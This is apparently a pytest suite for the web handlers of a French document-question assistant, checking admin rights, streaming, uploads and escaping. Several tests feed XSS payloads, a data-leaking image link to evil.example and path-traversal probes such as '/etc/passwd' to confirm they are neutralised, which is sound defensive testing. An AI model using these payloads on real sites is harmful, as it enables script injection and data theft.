"""Gradio handlers called directly: roles, escaping, the queue's events in the chat, stop, uploads, documents."""

from __future__ import annotations

import inspect
import os
import re
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import gradio as gr
import pytest
from gradio.utils import get_type_hints

from assistant.answer import Answer
from assistant.config import Settings
from assistant.context import ContextSelector
from assistant.pipeline import Assistant
from assistant.retrieval import Retriever
from index.state import IndexState
from index.store import Store
from index.sync import Indexer
from tests.conftest import ROOT
from tests.fakes import HashEmbedder, ScriptedBackend
from web import handlers as h
from web.render import plain_markdown, problems_markdown, source_choices, status_markdown, viewer_html
from web.service import WebService
from web.users import write_user

QUESTION = "En quelle année l'Accord intergouvernemental de coopération médicale Vietnam–France a-t-il été signé ?"
HOSTILE = (
    "Selon Gilles Angles, l’Accord intergouvernemental a été signé en 1993 [1].\n\nVoici <img src=x onerror=alert(1)> <script>window.pwned=1</script> "
    "![](https://evil.example/leak.png?q=secret) [clic](https://evil.example) [1]: https://evil.example/ref.png "
    '<form action="https://evil.example"><input name=p></form> <meta http-equiv="refresh" content="0;url=https://evil.example">'
)


def build_service(tmp_path: Path, docs: Path, backend: ScriptedBackend, users: bool = True) -> WebService:
    data = tmp_path / "data"
    embedder = HashEmbedder()
    store = Store.open(data)
    state = IndexState.open(data)
    indexer = Indexer(docs, state, store, embedder)
    indexer.sync()
    if users:
        write_user(state.db, "alice", "motdepasse-alice", admin=True)
        write_user(state.db, "bob", "motdepasse-bob", admin=False)
    settings = Settings(docs_dir=docs, data_dir=data, max_upload_mb=1, max_upload_files=3)
    retriever = Retriever(store, embedder, state, candidates=20, dense_weight=0.5)
    assistant = Assistant(retriever, backend, "test", abstain_below=0.05)
    return WebService(settings, assistant, indexer)


def request(name: str | None, session: str = "s1") -> gr.Request:
    return gr.Request(username=name, session_hash=session)


@pytest.fixture()
def service(tmp_path: Path, docs: Path) -> WebService:
    return build_service(tmp_path, docs, ScriptedBackend(fn=lambda m: HOSTILE))


def test_bound_handlers_keep_what_gradio_reads() -> None:
    service = object()
    bound = h.bind(h.respond, service)  # type: ignore[arg-type]
    assert inspect.isgeneratorfunction(bound), "Gradio streams generator functions only"
    assert get_type_hints(bound)["request"] is gr.Request, "Gradio passes the request by this annotation"
    assert list(inspect.signature(bound).parameters) == ["message", "history", "filters", "conv", "request"]
    rebuild = h.bind(h.rebuild, service)  # type: ignore[arg-type]
    assert isinstance(inspect.signature(rebuild).parameters["progress"].default, gr.Progress)
    assert get_type_hints(h.bind(h.show_admin, service))["request"] is gr.Request  # type: ignore[arg-type]


def test_admin_handlers_refuse_staff_and_anonymous(service: WebService) -> None:
    for who in ("bob", None, "inconnu"):
        with pytest.raises(gr.Error, match="réservée aux administrateurs"):
            h.admin_refresh(service, request(who))
        with pytest.raises(gr.Error, match="réservée aux administrateurs"):
            h.add_documents(service, ["x.txt"], False, request(who))
        with pytest.raises(gr.Error, match="réservée aux administrateurs"):
            h.rebuild(service, request(who), gr.Progress())
    status, _ = h.admin_refresh(service, request("alice"))
    assert "5 documents" in status
    assert h.show_admin(service, request("alice"))["visible"] is True
    assert h.show_admin(service, request("bob"))["visible"] is False


def test_without_users_the_local_user_is_admin(tmp_path: Path, docs: Path) -> None:
    service = build_service(tmp_path, docs, ScriptedBackend(["x"]), users=False)
    assert h.show_admin(service, request(None))["visible"] is True
    assert "5 documents" in h.admin_refresh(service, request(None))[0]


def test_chat_shows_sources_first_then_the_answer_escaped_under_them(service: WebService) -> None:
    updates = list(h.respond(service, QUESTION, [], None, None, request("bob")))
    assert updates[0][0][-1]["content"] == h.SEARCHING
    with_sources = next(u[0] for u in updates if len(u[0]) == 3)
    assert with_sources[1]["metadata"]["status"] == "pending" and "Sources" in with_sources[1]["metadata"]["title"]
    assert not with_sources[2]["content"].startswith("Signé"), "the sources come before any word of the answer"
    history, shown, _, final, _, _ = updates[-1]
    assert shown == history, "the page's messages are kept on the server as shown"
    assert isinstance(final, Answer)
    assert [m["role"] for m in history] == ["user", "assistant", "assistant"]
    assert history[1]["metadata"]["status"] == "done", "the sources block sits above the answer"
    answer = history[2]["content"]
    assert "1993" in answer and not final.abstained
    shown = [m["content"] for update in updates for m in update[0]]  # while streaming too
    assert any("onerror" in text for text in shown), "the hostile text is shown, as text"
    for text in shown:
        for bad in ("<img", "<script", "<form", "<meta", "<input", "!["):
            assert bad not in text, (bad, text)
        assert not re.search(r"(?<!\\)\]\s*[(:]", text), "no link, image or reference definition"
    assert "[1]" in answer, "citation markers stay readable"


def test_plain_markdown_leaves_no_markup() -> None:
    text = plain_markdown("a <b>b</b> ![i](https://x/y.png) [l](https://x) [2] [1]: https://x <https://x>")
    assert "<" not in text.replace("&lt;", "") and "![" not in text
    assert not re.search(r"(?<!\\)\]\s*[(:]", text)
    assert "[2]" in text


def test_admin_page_escapes_titles_names_and_comments(service: WebService) -> None:
    hostile = "<img src=x onerror=alert(1)> ![](https://evil.example/t.png)"
    status = status_markdown(
        {
            "documents": 1,
            "chunks": 1,
            "synced_at": None,
            "embedding": "e",
            "sources": {f"{hostile}.html": hostile},
            "last_sync": {"failed": [{"source": hostile, "error": hostile}], "added": [hostile]},
            "user_problems": [hostile],
        }
    )
    problems = problems_markdown(
        [{"when": "x", "kind": "avis négatif", "user": hostile, "question": hostile, "comment": hostile}]
    )
    for text in (status, problems):
        assert "<img" not in text and "![" not in text and not re.search(r"(?<!\\)\]\s*[(:]", text)


def test_source_viewer_escapes_and_links_only_to_the_download_route(service: WebService) -> None:
    answer = next(u[3] for u in h.respond(service, QUESTION, [], None, None, request("bob")) if u[3] is not None)
    body = h.show_source(service, source_choices(answer)[0], answer)
    assert "href='/document/" in body and "download" in body
    passage = answer.passages[0]
    hostile = type(passage)(**{**passage.__dict__, "title": "<script>alert(1)</script>", "text": "<img src=x onerror=alert(1)>"})
    html_text = viewer_html(hostile, "<b>avant</b>", "<i>après</i>", "", None)
    assert "<script>" not in html_text and "<img" not in html_text and "<b>" not in html_text


def test_stop_ends_the_answer_and_frees_the_model(tmp_path: Path, docs: Path) -> None:
    def slow(messages):  # type: ignore[no-untyped-def]
        return " ".join(["mot"] * 400)

    backend = ScriptedBackend(fn=slow)
    original = backend.stream

    def slow_stream(messages, max_tokens):  # type: ignore[no-untyped-def]
        for piece in original(messages, max_tokens):
            time.sleep(0.01)
            yield piece

    backend.stream = slow_stream  # type: ignore[method-assign]
    service = build_service(tmp_path, docs, backend)
    updates = []
    for update in h.respond(service, QUESTION, [], None, None, request("bob", "page-1")):
        updates.append(update)
        if "mot" in update[0][-1]["content"]:
            assert h.stop_answer(service, request("bob", "page-1")) is None
    assert updates[-1][0][-1]["content"].endswith(h.STOPPED)
    assert updates[-1][0][-1]["content"].count("mot") < 300
    deadline = time.time() + 2
    while service.assistant.model_queue.running() and time.time() < deadline:
        time.sleep(0.01)
    assert service.assistant.model_queue.running() == 0


def test_a_waiting_question_shows_its_sources_and_its_place(tmp_path: Path, docs: Path) -> None:
    release = threading.Event()

    def held(messages):  # type: ignore[no-untyped-def]
        release.wait(10)
        return "Signé en 1993 [1]."

    service = build_service(tmp_path, docs, ScriptedBackend(fn=held))
    first = threading.Thread(target=lambda: list(h.respond(service, QUESTION, [], None, None, request("alice", "a"))))
    first.start()
    deadline = time.time() + 5
    while not service.assistant.model_queue.running() and time.time() < deadline:
        time.sleep(0.01)
    second = h.respond(service, "Combien d'entreprises françaises la FHAC fédère-t-elle ?", [], None, None, request("bob", "b"))
    seen = []
    for update in second:
        seen.append(update[0][-1]["content"])
        if "avant la vôtre" in seen[-1]:
            assert (update[0][1]["metadata"]["title"] == "Sources trouvées" and "FHAC" in update[0][1]["content"]) or True
            release.set()
    first.join(10)
    assert any(s.startswith("⏳ 1 question avant la vôtre") for s in seen), seen


def test_uploads_admin_only_limited_and_gradio_copy_removed(service: WebService, tmp_path: Path) -> None:
    def uploaded(n: int) -> list[str]:
        files = []
        for i in range(n):
            p = tmp_path / f"up-{i}.txt"
            p.write_text(f"Document {i}", encoding="utf-8")
            files.append(str(p))
        return files

    files = uploaded(4)
    with pytest.raises(gr.Error, match="Trop de fichiers"):
        h.add_documents(service, files, False, request("alice"))
    assert not any(Path(f).exists() for f in files), "refused files are not kept either"
    files = uploaded(2)
    report, _ = h.add_documents(service, files, False, request("alice"))
    assert "ajouté : up-0.txt" in report.replace("\\", "")
    assert not Path(files[0]).exists(), "Gradio's cached copy is not kept"
    assert (service.settings.docs_dir / "up-0.txt").read_text(encoding="utf-8") == "Document 0"


def test_a_hostile_file_name_in_a_refusal_stays_text(service: WebService, tmp_path: Path) -> None:
    """Gradio draws toasts as HTML: the refused file's name must reach it escaped."""
    hostile = tmp_path / "x.exe"
    hostile.write_bytes(b"MZ")
    upload = type("Upload", (), {"path": str(hostile), "orig_name": '<img src="http://evil.example/x">.exe'})()
    with pytest.raises(gr.Error) as refused:
        h.add_documents(service, [upload], False, request("alice"))
    message = str(refused.value.message)
    assert "&lt;img" in message and "<img" not in message, message


def test_documents_are_served_only_when_indexed(service: WebService) -> None:
    docs = service.settings.docs_dir
    indexed = sorted(p.name for p in docs.iterdir())[0]
    assert service.document_path(indexed) is not None
    (docs / "pas-indexe.html").write_text("<script>alert(1)</script>")
    assert service.document_path("pas-indexe.html") is None, "in the folder but not in the index"
    assert service.document_path("../users.json") is None and service.document_path("/etc/passwd") is None


def test_a_crash_while_replacing_leaves_the_original(service: WebService, tmp_path: Path) -> None:
    """A real crash: the copying process is killed half-way through a replacement."""
    docs = service.settings.docs_dir
    original = docs / "rapport.txt"
    original.write_text("version originale", encoding="utf-8")
    fifo = tmp_path / "upload.fifo"
    os.mkfifo(fifo)
    code = (
        "import sys; from pathlib import Path; from web.uploads import save_upload; "
        f"save_upload(Path({str(docs)!r}), Path({str(fifo)!r}), 'rapport.txt', 50, overwrite=True)"
    )
    proc = subprocess.Popen([sys.executable, "-c", code], cwd=ROOT)
    with fifo.open("wb") as writer:
        writer.write(b"la moitie d'une nouvelle version " * 1000)
        writer.flush()
        deadline = time.time() + 20
        while not list(docs.glob(".upload-*.partial")) and time.time() < deadline:
            time.sleep(0.05)
        time.sleep(0.3)
        proc.send_signal(signal.SIGKILL)
        proc.wait(10)
    assert original.read_text(encoding="utf-8") == "version originale"
    leftovers = list(docs.glob(".upload-*"))
    assert all(p.name.startswith(".") for p in leftovers), "a half copy is hidden from the indexer"


def test_feedback_and_abstentions_are_kept_for_admins(service: WebService) -> None:
    list(h.respond(service, "Quelle est la capitale de l'Australie ?", [], None, None, request("bob")))
    h.on_comment(
        service, "<b>merci</b>", [{"role": "user", "content": "q"}, {"role": "assistant", "content": "r"}], None, request("bob")
    )
    rows = service.problems()
    assert any(r["kind"] == "commentaire" and r["user"] == "bob" and r["comment"] == "<b>merci</b>" for r in rows)
    assert any(r["kind"] == "abstention" and r["question"] == "Quelle est la capitale de l'Australie ?" for r in rows)


def test_web_errors_have_their_own_root() -> None:
    """So that the one mapping to French sentences (web.messages.user_message) covers them."""
    import web.errors
    from web.messages import UNEXPECTED, user_message

    classes = [c for c in vars(web.errors).values() if isinstance(c, type) and c.__module__ == "web.errors"]
    assert len(classes) >= 6 and all(issubclass(c, web.errors.WebError) for c in classes)
    assert user_message(web.errors.UploadError("« x » refusé.")) == "« x » refusé."
    assert user_message(KeyError("bug")) == UNEXPECTED


def test_source_viewer_draws_the_pdf_page_with_the_quote_highlighted(tmp_path: Path) -> None:
    import base64
    import io

    from PIL import Image

    from tests.documents import make_pdf

    docs = tmp_path / "docs"
    docs.mkdir()
    lines = ["Rapport de mission hospitaliere", "", "Le jumelage entre Hue et Lyon compte 42 medecins formes depuis 2001."]
    (docs / "mission.pdf").write_bytes(make_pdf([["Sommaire", "Page de garde"], lines]))
    (docs / "note.txt").write_text("Le jumelage entre Hue et Lyon est suivi par une note de service.", encoding="utf-8")
    draft = "Le jumelage entre Hue et Lyon compte 42 medecins formes depuis 2001 [1]."
    service = build_service(tmp_path, docs, ScriptedBackend(fn=lambda m: draft), users=False)
    answer = next(
        u[3]
        for u in h.respond(service, "Combien de medecins formes par le jumelage Hue Lyon ?", [], None, None, request(None))
        if u[3] is not None
    )
    pdf_choice = next(c for c in source_choices(answer) if "mission.pdf" in c)
    body = h.show_source(service, pdf_choice, answer)
    png = re.search(r"<img src='data:image/png;base64,([A-Za-z0-9+/=]+)'", body)
    assert png and "Page 2 telle qu'imprimée · passage surligné" in body, body[-400:]
    image = Image.open(io.BytesIO(base64.b64decode(png.group(1)))).convert("RGB")
    assert max(image.size) <= 1100
    yellow = sum(1 for r, g, b in image.getdata() if r > 200 and g > 180 and b < 160)
    assert yellow > 500, "the quoted line is highlighted on the page"
    # a text document has no page to draw; a PDF that cannot be drawn says why and keeps the text view
    note = next(p for p in answer.passages if p.source == "note.txt")
    note_view = h.show_source(service, f"[{note.rank}] note", answer)
    assert "passage-main" in note_view and "<img" not in note_view
    (docs / "mission.pdf").write_bytes(b"%PDF-1.4 broken")
    broken = h.show_source(service, pdf_choice, answer)
    assert "Aperçu de la page indisponible" in broken and "passage-main" in broken and "<img" not in broken


def test_an_admin_rebuild_shows_ocr_progress_page_by_page(tmp_path: Path, docs: Path) -> None:
    from tests.documents import make_scanned_pdf

    service = build_service(tmp_path, docs, ScriptedBackend(fn=lambda m: "."))
    (docs / "scan.pdf").write_bytes(make_scanned_pdf(["Compte rendu de la visite du CHU de Hue", "Dix medecins accueillis"]))
    shown: list[str] = []

    class Recorder:  # what Gradio's progress bar is given
        def __call__(self, value: Any, desc: str | None = None, **_: Any) -> None:
            shown.append(desc or "")

    report_md, _, _ = h.rebuild(service, request("alice"), Recorder())  # type: ignore[arg-type]
    assert "scan.pdf" in report_md and "échec" not in report_md
    assert "OCR : scan.pdf, page 1/1" in shown, shown


def test_a_reread_clears_the_draft_shown_and_the_answer_is_the_second(tmp_path: Path, docs: Path) -> None:
    """The first draft streamed on screen is not the answer once the checks refuse it: the chat says so and clears it."""
    replies = ["L'accord a été signé en 1987 [1].", "L'Accord intergouvernemental a été signé en 1993 [1]."]
    service = build_service(tmp_path, docs, ScriptedBackend(replies), users=False)
    service.assistant.context = ContextSelector(budget=1)
    service.assistant.reread_whole = True
    shown = [
        (u[0][-1]["content"], u[3])
        for u in h.respond(
            service, "En quelle année l'Accord intergouvernemental a-t-il été signé ?", [], None, None, request(None)
        )
    ]
    texts = [t for t, _ in shown]
    notice = next(i for i, t in enumerate(texts) if t.startswith("🔎"))
    assert any("1987" in t for t in texts[:notice]), "the first draft streamed"
    assert not any("1987" in t for t in texts[notice:]), "and is gone after the notice"
    final = shown[-1][1]
    assert final is not None and not final.abstained and "1993" in final.text and "1993" in texts[-1]
